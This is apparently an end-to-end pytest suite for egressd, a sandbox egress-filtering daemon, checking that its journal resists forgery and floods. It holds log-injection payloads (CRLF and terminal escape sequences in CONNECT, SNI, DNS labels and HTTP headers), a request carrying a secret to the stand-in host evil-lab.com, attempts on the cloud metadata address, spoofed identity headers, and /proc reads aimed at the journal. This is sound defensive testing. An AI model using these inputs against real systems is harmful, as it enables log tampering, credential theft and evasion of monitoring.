"""LOG rows: what is written down, whatever a sandbox sends. Where it cannot be written is in test_drills.py."""

from __future__ import annotations

import json
import re
import subprocess
import time
from collections.abc import Sequence
from typing import Any

import pytest

from egressd.lab.stand import Stand
from tests.bypass.arena import Arena, Driver, Row
from tests.e2e.conftest import until

pytestmark = pytest.mark.e2e

_NO_LOG = "without egressd there is no journal"
_EVIL = "b'\\x08evil-lab\\x03com\\x00'"


def _label(title: str, label: bytes, raw: str, reason: str = "bad_host", ident: str = "LOG-02") -> Row:
    wire = bytes((len(label),)) + label
    return Row(
        ident,
        f"say(read_dns(udp(RESOLVER, 53, question({wire!r} + {_EVIL}))))",
        sees=r"^NXDOMAIN\n$",
        records=(("dns", "deny", reason),),
        shows={"host_raw": raw + ".evil-lab.com", "reason": reason},
        moot=_NO_LOG,
        title=title,
    )


def _sni(title: str, name: bytes, shown: str, reason: str, ident: str = "LOG-01") -> Row:
    plain = "a" * len(name)
    return Row(
        ident,
        f"say(shown(tcp('evil-lab.com', 443, hello({plain!r}).replace({plain.encode()!r}, {name!r}), seconds=2)), 'end')",
        sees="end",
        records=(("connection", "deny", reason),),
        shows={"sni": shown, "reason": reason},
        moot=_NO_LOG,
        title=title,
    )


def _request(title: str, line: bytes, sees: str, reason: str, ident: str = "LOG-01", **shows: object) -> Row:
    return Row(
        ident,
        f"say(shown(tls('api.lab-origin.com', 443, {line!r} + b'\\r\\nConnection: close\\r\\n\\r\\n', 'api.lab-origin.com')))",
        sees=sees,
        records=(("request", "allow" if reason == "rule" else "deny", reason),),
        shows=shows,
        moot=_NO_LOG,
        reaches=("api.lab-origin.com",) if reason == "rule" else (),
        title=title,
    )


_HOST = b" HTTP/1.1\r\nHost: api.lab-origin.com"
FORGERIES = [
    Row(
        "LOG-01",
        "say(shown(proxy(b'CONNECT a%0aFAKE:443 HTTP/1.1\\r\\n\\r\\n')))",
        sees="400",
        records=(("connection", "deny", "bad_host"),),
        shows={"host_raw": "a%0aFAKE:443"},
        moot=_NO_LOG,
        title="an escaped line break in CONNECT",
    ),
    Row(
        "LOG-01",
        "say(shown(proxy(b'CONNECT a\\x1b[2Jb.evil-lab.com:443 HTTP/1.1\\r\\n\\r\\n')))",
        sees="400",
        records=(("connection", "deny", "bad_host"),),
        shows={"host_raw": "a\x1b[2Jb.evil-lab.com:443"},
        moot=_NO_LOG,
        title="a terminal's command in CONNECT",
    ),
    _request(
        "a line break in the path, as text",
        b'GET /a%0d%0a{%22verdict%22:%22allow%22}' + _HOST,
        "403",
        "path_ambiguous",
        path="/a%0d%0a{%22verdict%22:%22allow%22}",
    ),
    _request("a line break in the path, raw", b'GET /a\r\n{"verdict":"allow"}' + _HOST, "400", "bad_request"),
    _request("a terminal's command in the path", b"GET /\x1b]0;x\x07" + _HOST, "400", "bad_request"),
    _request("a terminal's command in a header", b"GET /n" + _HOST + b"\r\nUser-Agent: \x1b[2J", "400", "bad_header"),
    _sni("a terminal's command in the hello", b"a\x1b[31m.evil-x", "a\x1b[31m.evil-x", "bad_host"),
    _sni("a line break in the hello", b"a\n{}\r\nx.evil-x", "a\n{}\r\nx.evil-x", "bad_host"),
    _label("ESC", b"\x1b[31m", "\\027[31m"),
    _label("a line break", b"a\nb", "a\\010b"),
    _label("a quote", b'"', '"'),
    _label("a backslash", b"\\", "\\\\"),
    _label("NUL", b"\0", "\\000"),
    _label("a dot inside a label", b"a.b", "a\\.b"),
    _label("DEL and C1", b"\x7f\x9b", "\\127\\155", "non_ascii_host"),
    _label("a bidirectional override", "\u202e".encode(), "\\226\\128\\174", "non_ascii_host", "LOG-03"),
    _sni("separators in the hello", "\u202e\u0085\u2028abc".encode(), "\u202e\u0085\u2028abc", "non_ascii_host", "LOG-03"),
    _request(
        "separators in the path", "GET /\u2028\u0085\u202e".encode() + _HOST, "400", "bad_request", "LOG-03"
    ),
    _request(
        "separators in a header",
        b"GET /n" + _HOST + "\r\nUser-Agent: \u2028\u0085\u202e".encode(),
        "200 OK",
        "rule",
        "LOG-03",
        path="/n",
    ),
]  # fmt: skip


@pytest.mark.parametrize("row", FORGERIES, ids=str)
def test_no_byte_forges_hides_or_breaks_a_line(once: Arena, row: Row) -> None:
    once.holds(row)
    lines = once.stand.journal.read_bytes().split(b"\n")
    assert lines.pop() == b""
    assert all(32 <= byte < 127 for line in lines for byte in line)
    numbers = [json.loads(line)["seq"] for line in lines]
    assert numbers == list(range(1, len(lines) + 1))


def test_what_people_read_is_as_harmless_as_the_file(once: Arena) -> None:
    """LOG-01, LOG-03: the table of `egressd log` holds no command for a terminal and no line of its own making."""
    once.a.run("".join(f"{row.code}\n" for row in FORGERIES))
    shown = subprocess.run(once.stand.egressd("log"), capture_output=True, text=True, check=True).stdout
    assert set(re.findall(r"[^ -~\n…]", shown)) == set()
    raw = subprocess.run(
        once.stand.egressd("log", "--json"), capture_output=True, text=True, check=True
    ).stdout
    assert len(raw.splitlines()) <= once.stand.journal.read_bytes().count(b"\n")
    assert all(json.loads(line)["schema"] == 1 for line in raw.splitlines())


# floods


def counted(records: Sequence[dict[str, Any]], **wanted: object) -> int:
    """How many attempts some records stand for."""
    return sum(
        record.get("count", 1)
        for record in records
        if all(record.get(name) == value for name, value in wanted.items())
    )


def test_a_flood_does_not_hide_the_line_that_matters(once: Arena) -> None:
    """LOG-06: 12,000 denied names at once, then one try for metadata: each is written or counted, and the one is there."""
    stand = once.stand
    mark = len(stand.records())
    code = (
        "sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); sock.connect((RESOLVER, 53)); sock.settimeout(0.001)\n"
        "sent = 0\n"
        "for n in range(12000):\n sock.send(question(f'f{n}.evil-lab.com')); sent += 1\n"
        " if n % 50 == 0:\n  try:\n   while True: sock.recv(4096)\n  except OSError: pass\n"
        "say(sent)\n"
        "say(shown(tcp('169.254.169.254', 80, get('/latest/meta-data/', '169.254.169.254'))))"
    )
    once.lab.forget()
    said = once.a.run(code, 60)
    assert said.startswith("12000\n")
    assert "reason floor_metadata" in said
    until(lambda: [r for r in stand.records()[mark:] if r.get("reason") == "floor_metadata"], 5)
    until(lambda: counted(stand.records()[mark:], layer="dns") == 12000, 90, "as many records as queries")
    records = [r for r in stand.records()[mark:] if r.get("layer") == "dns"]
    assert len(records) < 12000, "folded"
    assert {r["reason"] for r in records} <= {"not_allowed", "dns_budget"}
    once.nothing_reached()
    # its own names are refused for a while; the other sandbox is not concerned
    said = once.b.run("say(shown(tls('api.lab-origin.com', 443, get(), 'api.lab-origin.com')))")
    assert "200 OK" in said


def test_a_flood_of_packets_is_counted_to_the_last(once: Arena) -> None:
    """LOG-06, LOG-10: 5,000 datagrams to 500 ports; the kernel's count and the journal's agree."""
    stand = once.stand
    mark = len(stand.records())
    code = (
        "sent = 0\nsock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "for n in range(5000):\n"
        " try:\n  sock.sendto(b'x', ('11.6.6.6', 20000 + n % 500))\n except PermissionError:\n  sent += 1\n"
        "say(sent)"
    )
    with once.another() as driver:
        assert driver.run(code, 30) == "5000\n"
        sandbox = stand.records(event="sandbox", detail="ready")[-1]["sandbox"]
        until(lambda: stand.records(sandbox=sandbox, layer="packet", port=20000), 5)
        time.sleep(1.2)  # one window of counts
        assert driver.process.stdin is not None
        driver.process.stdin.close()
        driver.process.stdin = None  # else `communicate` would miss it
        driver.process.wait(20)
    own = [r for r in stand.records()[mark:] if r["sandbox"] == sandbox and r.get("layer") == "packet"]
    assert counted(own) == 5000
    assert len(own) < 2500
    lost = [r for r in own if r["event"] == "lost"]
    assert len(lost) <= 1


def test_dropped_packets_are_each_sandboxs_own(once: Arena) -> None:
    """LOG-10: three sandboxes, one with labels as long as they may be; the kernel's prefix is the same few bytes for all."""
    stand = once.stand
    port = iter(range(31000, 31010))
    used: dict[str, int] = {}

    def drop(driver: Driver, sandbox: str) -> None:
        used[sandbox] = next(port)
        driver.run(
            f"say(udp('11.6.6.6', {used[sandbox]}), udp('2600:6:6::6', {used[sandbox]}))\n"
            "run('ping', '-c1', '-W1', '11.6.6.6')"
        )

    with once.another("--label", f"task={'x' * 64}") as third:
        ready = [r["sandbox"] for r in stand.records(event="sandbox", detail="ready")]
        for driver, sandbox in ((once.a, ready[0]), (once.b, ready[1]), (third, ready[-1])):
            drop(driver, sandbox)
        for sandbox, number in used.items():
            until(lambda n=number: len(stand.records(layer="packet", port=n)) == 2, 3, "both families")  # type: ignore[misc]
            assert {r["sandbox"] for r in stand.records(layer="packet", port=number)} == {sandbox}
            assert stand.records(layer="packet", protocol="icmp", sandbox=sandbox)
        labelled = stand.records(layer="packet", sandbox=ready[-1])
    assert len(set(used)) == 3
    assert {r["labels"]["task"] for r in labelled} == {"x" * 64}


# fields

_CUT = re.compile(r"…\[\d+ bytes, sha256 [0-9a-f]{16}\]$")
GIANTS = [
    Row(
        "LOG-07",
        "say(shown(tls('api.lab-origin.com', 443, get('/' + 'u' * 7000), 'api.lab-origin.com')))",
        sees="200 OK",
        records=(("request", "allow", "rule"),),
        shows={"path": _CUT, "layer": "request"},
        reaches=("api.lab-origin.com",),
        moot=_NO_LOG,
        title="a long path",
    ),
    Row(
        "LOG-07",
        "say(shown(tls('api.lab-origin.com', 443, get('/' + 'u' * 64000), 'api.lab-origin.com')))",
        sees="414|431",
        records=(("connection", "allow", "rule"),),
        shows={"verdict": "deny", "reason": re.compile("target_too_long|head_too_large")},
        moot=_NO_LOG,
        title="a path of 64 kB",
    ),
    Row(
        "LOG-07",
        "head = b''.join(b'X-%d: %d\\r\\n' % (n, n) for n in range(5000))\n"
        "say(shown(tls('api.lab-origin.com', 443, get(head=head), 'api.lab-origin.com')))",
        sees="431",
        records=(("request", "deny", "head_too_large"),),
        moot=_NO_LOG,
        title="5,000 headers",
    ),
    Row(
        "LOG-07",
        "say(shown(proxy(b'CONNECT ' + b'h' * 20000 + b'.evil-lab.com:443 HTTP/1.1\\r\\n\\r\\n')))",
        sees="400|431",
        records=(("connection", "deny", "bad_host"),),
        moot=_NO_LOG,
        title="a host of 20 kB in CONNECT",
    ),
    Row(
        "LOG-07",
        "say(shown(tls('api.lab-origin.com', 443, get(host='h' * 20000), 'api.lab-origin.com')))",
        sees="400|403",
        records=(("connection", "allow", "rule"),),
        shows={"verdict": "deny", "host_raw": _CUT},
        moot=_NO_LOG,
        title="a host of 20 kB in Host",
    ),
]


@pytest.mark.parametrize("row", GIANTS, ids=str)
def test_giant_fields_are_cut_with_length_and_hash(once: Arena, row: Row) -> None:
    once.holds(row)
    assert max(map(len, once.stand.journal.read_bytes().splitlines())) < 16 * 1024


def test_who_it_was_is_never_taken_from_what_was_sent(once: Arena) -> None:
    """LOG-08: DESIGN.md writes down no header at all, these neither, so they are data for nobody."""
    stand = once.stand
    a, b = (record["sandbox"] for record in stand.records(event="sandbox", detail="ready")[:2])
    mark = len(stand.records())
    code = (
        f"names = {b!r}\n"
        "head = f'X-Sandbox-Id: {names}\\r\\nX-Egressd-Sandbox: {names}\\r\\nX-Forwarded-For: 10.0.0.2\\r\\nForwarded: "
        "for=10.0.0.2\\r\\n'"
        ".encode()\n"
        "say(shown(tls('api.lab-origin.com', 443, get('/marked', head=head), 'api.lab-origin.com'))[:15])\n"
        "say(shown(proxy(b'CONNECT evil-lab.com:443 HTTP/1.1\\r\\nProxy-Authorization: Basic QjpC\\r\\n' + head + "
        "b'\\r\\n'))[:15])\n"
        "say(shown(proxy(b'GET http://www.lab-origin.com/n HTTP/1.1\\r\\nHost: www.lab-origin.com\\r\\n' + head + "
        "b'\\r\\n'))[:15])"
    )
    once.a.run(code)
    records = once.new_records(mark, (("request", "allow", "rule"),))
    assert {record["sandbox"] for record in records} == {a}
    assert "10.0.0.2" not in json.dumps(records)
    assert b not in json.dumps(records)


def test_every_denial_says_all_that_is_known(once: Arena) -> None:
    """LOG-09: in the default configuration, one denial of each kind: where it went, why, by which rule, whose, in which layer."""
    stand = once.stand
    mark = len(stand.records())
    code = (
        "tls('evil-lab.com', 443, get('/secret?key=hidden', 'evil-lab.com'), 'evil-lab.com')\n"
        "tls('x.wild-lab.com', 443, get('/', 'x.wild-lab.com'), 'x.wild-lab.com')\n"
        "tls('pastebin.com', 443, get('/', 'pastebin.com'), 'pastebin.com')\n"
        "tls('api.lab-origin.com', 443, get(method='DELETE'), 'api.lab-origin.com')\n"
        "tls('registry.npmjs.org', 443, get('/closed', 'registry.npmjs.org'), 'registry.npmjs.org')\n"
        "tcp('11.6.6.6', 80, get('/', 'x'))\ntcp('169.254.169.254', 80, get('/', 'x'))\n"
        "tls('api.lab-origin.com', 443, get(), 'evil-lab.com')\n"
        "proxy(b'CONNECT api.lab-origin.com:22 HTTP/1.1\\r\\n\\r\\n')\nproxy(b'CONNECT a..b:443 HTTP/1.1\\r\\n\\r\\n')\n"
        "udp('11.6.6.6', 443)\ntcp('evil-lab.com', 443, b'\\x16\\x03\\x01\\x00\\x01z')\nudp(RESOLVER, 53, b'\\x00' * 5)\n"
        "dns('evil-lab.com', 16)\n"
    )
    once.a.run(code, 30)
    wanted = {
        ("dns", "not_allowed"), ("connection", "not_allowed"), ("request", "not_allowed"), ("request", "denied_by_rule"),
        ("request", "denied_by_organisation"), ("request", "method_not_allowed"), ("request", "path_not_allowed"),
        ("connection", "ip_literal"), ("connection", "floor_metadata"), ("connection", "sni_mismatch"),
        ("connection", "port_not_allowed"), ("connection", "bad_host"), ("packet", "protocol_not_allowed"),
        ("connection", "bad_tls"), ("dns", "bad_dns"),
    }  # fmt: skip
    records = once.new_records(mark, [(layer, "deny", reason) for layer, reason in sorted(wanted)])
    denials = [r for r in records if r.get("verdict") == "deny" and r["event"] == "decision"]
    got = {(r["layer"], r["reason"]) for r in denials}
    assert wanted <= got, wanted - got
    for record in denials:
        known = {
            "time",
            "seq",
            "sandbox",
            "attempt_id",
            "root_id",
            "layer",
            "channel",
            "reason",
            "profile",
            "policy",
        }
        assert known <= record.keys(), record
        if record["layer"] in ("connection", "request") and record["channel"] == "transparent":
            assert {"address", "port"} <= record.keys(), record
        if record["reason"].startswith("denied_by_"):  # any other denial is by default, of no rule
            assert re.fullmatch(r"(profiles/lab|organisation)\.yaml:\d+", record["place"]), record
            assert record["rule"]
        if record["layer"] == "request":
            assert {"method", "path", "status", "host"} <= record.keys(), record
    ends = {r["attempt_id"]: r for r in records if r["event"] == "end"}
    for record in denials:
        if record["layer"] == "request":
            assert {"bytes_up", "bytes_down", "duration_ms"} <= ends[record["attempt_id"]].keys()
    assert "hidden" not in json.dumps(records), "values of a query are not written down"


def test_the_journal_is_out_of_reach_and_each_sees_only_its_own_denials(once: Arena) -> None:
    """LOG-11."""
    stand: Stand = once.stand
    once.a.run("tls('secret-of-a.evil-lab.com', 443, get('/', 'x'), 'secret-of-a.evil-lab.com')")
    paths = [
        str(stand.journal),
        "/var/log/egressd/journal.jsonl",
        "/proc/1/fd/1",
        "/proc/1/root",
        "/proc/1/cwd",
    ]
    once.b.run("tcp('11.6.6.6', 80, get('/', 'x'))")
    code = (
        f"for path in {paths}:\n"
        " try:\n  with open(path, 'r+') as file:\n   say('READ', path, file.read(20))\n except OSError as error:\n  "
        "say(type(error).__name__)\n"
        "for pid in (p for p in os.listdir('/proc') if p.isdigit()):\n"
        " try:\n"
        "  for fd in os.listdir(f'/proc/{pid}/fd'):\n"
        "   if 'journal' in os.readlink(f'/proc/{pid}/fd/{fd}'): say('HELD', pid, fd)\n"
        " except OSError:\n  pass\n"
        "denials = run('curl', '-sS', 'http://egressd.internal/denials')\n"
        "say('secret-of-a' in denials, 'reason:' in denials)"
    )
    before = stand.journal.read_bytes()
    a, b = once.a.run(code), once.b.run(code)
    assert "READ" not in a + b
    assert "HELD" not in a + b
    assert a.endswith("True True\n")
    assert b.endswith("False True\n")
    assert stand.journal.read_bytes().startswith(before)
